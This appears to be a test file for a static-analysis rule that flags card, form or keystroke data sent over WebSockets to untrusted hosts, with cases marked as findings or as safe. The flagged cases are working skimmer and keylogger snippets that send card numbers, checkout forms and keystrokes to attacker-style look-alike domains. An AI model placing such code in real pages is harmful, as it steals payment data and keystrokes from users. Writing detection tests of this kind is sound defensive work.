// Tests for card-data-in-websocket: card, form or key data written to a WebSocket to an
// untrusted host. Findings are reported on the send. Sections are separate scripts.

var ws = new WebSocket('wss://cdn-analytics-metrics.top/socket');
var num = document.querySelector('#cc_number').value;
ws.onopen = function () {
  // ruleid: card-data-in-websocket
  ws.send(JSON.stringify({ n: num, t: Date.now() }));
};

// ---
// A socket held on `this` in a class; the form serialised with FormData.
class Relay {
  constructor() { this.sock = new WebSocket('wss://secure-paygate.xyz:8443/ws'); }
  push(data) {
    // ruleid: card-data-in-websocket
    this.sock.send(btoa(data));
  }
}
var relay = new Relay();
document.querySelector('form#checkout').addEventListener('submit', function () {
  relay.push(Array.from(new FormData(this).values()).join('|'));
});

// ---
// Key logger streaming keystrokes to a look-alike host.
var sock = new WebSocket('wss://jsdellvr.com/live');
document.addEventListener('keydown', function (e) {
  // ruleid: card-data-in-websocket
  sock.send(e.key);
});

// ---
// A chat widget: its socket carries chat messages and presence, no card data.
var chat = new WebSocket('wss://nexus-websocket-a.intercom.io/pubsub/5-abc');
document.getElementById('chat-form').addEventListener('submit', function (e) {
  e.preventDefault();
  // ok: card-data-in-websocket
  chat.send(JSON.stringify({ type: 'message', body: document.getElementById('chat-text').value }));
});

// ---
// Order-status socket on a real-time service: sends the order id only.
var status = new WebSocket('wss://realtime.order-status-service.example.net/orders');
var cardNumber = document.getElementById('card-number');
cardNumber.addEventListener('input', function () { cardNumber.value = cardNumber.value.replace(/\D/g, ''); });
status.onopen = function () {
  // ok: card-data-in-websocket
  status.send(JSON.stringify({ subscribe: window.orderId }));
};
